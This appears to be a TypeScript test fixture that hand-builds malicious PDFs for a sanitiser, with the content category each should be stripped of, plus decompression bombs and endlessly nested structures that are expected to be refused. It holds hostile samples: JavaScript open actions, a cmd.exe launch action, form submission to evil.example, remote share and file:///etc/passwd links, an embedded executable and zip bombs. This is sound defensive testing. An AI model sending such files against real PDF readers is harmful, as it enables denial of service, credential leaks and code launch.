import { deflateSync } from 'node:zlib';

/** A PDF written by hand, its objects numbered from 1, the first its root. */
export const writePdf = (objects: readonly (string | Buffer)[], from = '/Root 1 0 R'): Buffer => {
  let body = Buffer.from('%PDF-1.7\n');
  const places = objects.map((object, index) => {
    const place = body.length;
    body = Buffer.concat([body, Buffer.from(`${index + 1} 0 obj\n`), Buffer.from(object), Buffer.from('\nendobj\n')]);
    return place;
  });
  const rows = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('');
  const end = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${rows}trailer\n<</Size ${objects.length + 1}${from}>>\n`;
  return Buffer.concat([body, Buffer.from(`${end}startxref\n${body.length}\n%%EOF\n`)]);
};

export const streamOf = (contents: Buffer | string, entries = ''): Buffer =>
  Buffer.concat([
    Buffer.from(`<<${entries}/Length ${contents.length}>>\nstream\n`),
    Buffer.from(contents),
    Buffer.from('\nendstream'),
  ]);

/** One page; `catalog` and `page` are entries more, `others` objects from number 5 on. */
export const onePage = ({
  catalog = '',
  page = '',
  contents = streamOf('BT ET'),
  others = [],
}: {
  readonly catalog?: string;
  readonly page?: string;
  readonly contents?: Buffer;
  readonly others?: readonly (string | Buffer)[];
}) =>
  writePdf([
    `<</Type/Catalog/Pages 2 0 R${catalog}>>`,
    '<</Type/Pages/Kids[3 0 R]/Count 1>>',
    `<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Contents 4 0 R${page}>>`,
    contents,
    ...others,
  ]);

const note = (subtype: string, entries: string) =>
  `/Annots[<</Type/Annot/Subtype/${subtype}/Rect[0 0 9 9]${entries}>>]`;
/** An object in a stream of objects. */
const packed = (object: string, number: number): Buffer => {
  const head = `${number} 0 `;
  return streamOf(deflateSync(Buffer.from(head + object)), `/Type/ObjStm/N 1/First ${head.length}/Filter/FlateDecode`);
};
const file = '<</Type/Filespec/F(run.exe)/EF<</F 5 0 R>>>>';
const attached = streamOf('MZ', '/Type/EmbeddedFile');

/** Packed twice: a kilobyte here is hundreds of megabytes there. */
const bomb = (megabytes: number) => deflateSync(deflateSync(Buffer.alloc(megabytes * 1_000_000)));

const hiddenScript = () => {
  const script = '5 0 obj\n<</S/JavaScript/JS(app.alert\\(1\\))>>\nendobj\n';
  const whole = onePage({
    catalog: '/OpenAction 5 0 R',
    contents: streamOf(`${' '.repeat(9000)}\n${script}`),
    others: ['<</S/GoTo/D[3 0 R/Fit]>>'],
  });
  // Where the table says that the action is, the script stands.
  const place = String(whole.indexOf(script)).padStart(10, '0');
  const real = String(whole.lastIndexOf('5 0 obj')).padStart(10, '0');
  return Buffer.from(whole.toString('latin1').replace(real, place), 'latin1');
};

/** What a hostile PDF may be made of, one each, and which kind of thing has to be told of it as taken out. */
export const hostilePdfs = {
  'a script when it is opened': [
    onePage({ catalog: '/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>' }),
    ['scripts'],
  ],
  'a script whose name is written in another way': [
    onePage({ catalog: '/OpenAction<</S/J#61vaScript/#4aS(app.alert\\(1\\))>>' }),
    ['scripts'],
  ],
  'a script in the tree of names': [
    onePage({
      catalog: '/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS 5 0 R>>]>>>>',
      others: [streamOf('app.alert(1)')],
    }),
    ['scripts'],
  ],
  'a script when a page is opened': [onePage({ page: '/AA<</O<</S/JavaScript/JS(app.alert\\(1\\))>>>>' }), ['scripts']],
  'a script after a harmless action': [
    onePage({ page: note('Link', '/A<</S/GoTo/D[3 0 R/Fit]/Next<</S/JavaScript/JS(app.alert\\(1\\))>>>>') }),
    ['scripts'],
  ],
  'a script hidden in a stream': [hiddenScript(), []],
  'a script in an older revision': [
    Buffer.concat([
      onePage({ catalog: '/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>' }),
      Buffer.from('1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\ntrailer\n<</Root 1 0 R>>\nstartxref\n0\n%%EOF\n'),
    ]),
    [],
  ],
  'a form with a script of its own': [
    onePage({
      catalog: '/AcroForm<</Fields[]/XFA[(template)5 0 R]>>',
      others: [streamOf('<script>xfa.host</script>')],
    }),
    ['xfa'],
  ],
  'the start of a program': [onePage({ page: note('Link', '/A<</S/Launch/F(cmd.exe)>>') }), ['actions']],
  'a form that is sent away': [
    onePage({ catalog: '/OpenAction<</S/SubmitForm/F(http://evil.example)>>' }),
    ['actions'],
  ],
  'data that is fetched': [onePage({ catalog: '/OpenAction<</S/ImportData/F(data.fdf)>>' }), ['actions']],
  'a way into a file of the network': [
    onePage({ catalog: '/OpenAction<</S/GoToR/F(\\\\\\\\evil\\\\share\\\\a.pdf)/D[0/Fit]>>' }),
    ['actions'],
  ],
  'an address that is a script': [
    onePage({ page: note('Link', '/A<</S/URI/URI(javascript:alert\\(1\\))>>') }),
    ['actions'],
  ],
  'an address of a share on another machine': [
    onePage({ page: note('Link', '/A<</S/URI/URI(www.evil@SSL\\\\share)>>') }),
    ['actions'],
  ],
  'an address of a file': [onePage({ page: note('Link', '/A<</S/URI/URI(file:///etc/passwd)>>') }), ['actions']],
  'a script in a packed object': [
    onePage({
      catalog: '/OpenAction 9 0 R',
      others: [packed('<</S/JavaScript/JS(app.alert\\(1\\))>>', 9)],
    }),
    ['scripts'],
  ],
  'a script of a field': [
    onePage({
      catalog: '/AcroForm<</Fields[5 0 R]>>',
      others: ['<</FT/Tx/T(a)/AA<</K<</S/JavaScript/JS(app.alert\\(1\\))>>>>>>'],
    }),
    ['scripts'],
  ],
  'a way into an attachment': [onePage({ page: note('Link', '/A<</S/GoToE/D[0/Fit]/T<</R/C/N(a)>>>>') }), ['actions']],
  'an attachment': [
    onePage({ catalog: `/Names<</EmbeddedFiles<</Names[(a)${file}]>>>>/AF[${file}]`, others: [attached] }),
    ['attachments'],
  ],
  'an attachment on a page': [
    onePage({ page: note('FileAttachment', `/FS ${file}`), others: [attached] }),
    ['attachments'],
  ],
  'a stream whose content is elsewhere': [
    onePage({ contents: streamOf('BT ET', '/F(\\\\\\\\evil\\\\share)/FFilter/FlateDecode') }),
    ['attachments'],
  ],
  'rich media': [onePage({ page: note('RichMedia', '/RichMediaContent<</Assets<<>>>>') }), ['media']],
  'a film': [onePage({ page: note('Screen', '/A<</S/Rendition/JS(app.alert\\(1\\))>>') }), ['media']],
} as const satisfies Record<string, readonly [Buffer, readonly string[]]>;

const packedObjects = (objects: Buffer, filter: string) =>
  onePage({ others: [streamOf(objects, `/Type/ObjStm/N 1/First 4/Filter${filter}`)] });

/** What takes a careless reader more memory or time than there is; each is refused. */
export const heavyPdfs = {
  'objects packed twice': () => packedObjects(bomb(400), '[/FlateDecode/FlateDecode]'),
  'objects that unpack to hundreds of megabytes': () =>
    packedObjects(deflateSync(Buffer.alloc(400_000_000, '5 0 ')), '/FlateDecode'),
  'one object under a hundred thousand numbers': () => {
    const numbers = Array.from({ length: 100_000 }, (_, index) => `${index + 10} 0`).join(' ');
    const objects = Buffer.from(`${numbers} [${'0 '.repeat(100_000)}]`);
    const entries = `/Type/ObjStm/N 100000/First ${numbers.length + 1}/Filter/FlateDecode`;
    return onePage({ others: [streamOf(deflateSync(objects), entries)] });
  },
  'a page packed twice': () => onePage({ contents: streamOf(bomb(400), '/Filter[/FlateDecode/FlateDecode]') }),
  'a page packed three times': () =>
    onePage({ contents: streamOf(deflateSync(bomb(4)), '/Filter[/FlateDecode/FlateDecode/FlateDecode]') }),
  'a page packed twice by a predictor': () =>
    onePage({
      contents: streamOf(bomb(4), '/Filter[/FlateDecode/FlateDecode]/DecodeParms[<</Predictor 12>> null]'),
    }),
  'a page packed twice with much between': () =>
    onePage({ contents: streamOf(deflateSync(Buffer.alloc(4_000_000)), '/Filter[/FlateDecode/RunLengthDecode]') }),
  'a page that unpacks to a hundred megabytes': () =>
    onePage({ contents: streamOf(deflateSync(Buffer.alloc(100_000_000)), '/Filter/FlateDecode') }),
  'a picture of more dots than there are': () =>
    onePage({
      page: '/Resources<</XObject<</I 5 0 R>>>>',
      others: [
        streamOf('x', '/Type/XObject/Subtype/Image/Width 90000/Height 90000/BitsPerComponent 1/Filter/CCITTFaxDecode'),
      ],
    }),
} as const;

/** What has no end where a reader follows it; each is refused. */
export const endlessPdfs = {
  'dictionaries within dictionaries': () =>
    onePage({ page: '/X 5 0 R', others: [`${'<</A'.repeat(80_000)} 1${'>>'.repeat(80_000)}`] }),
  'pages that are their own parents': () =>
    writePdf(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>']),
  'pages under many parents': () =>
    writePdf([
      '<</Type/Catalog/Pages 2 0 R>>',
      ...Array.from({ length: 40 }, (_, level) => `<</Type/Pages/Count 1/Kids[${`${level + 3} 0 R `.repeat(10)}]>>`),
      '<</Type/Page/MediaBox[0 0 9 9]>>',
    ]),
} as const;
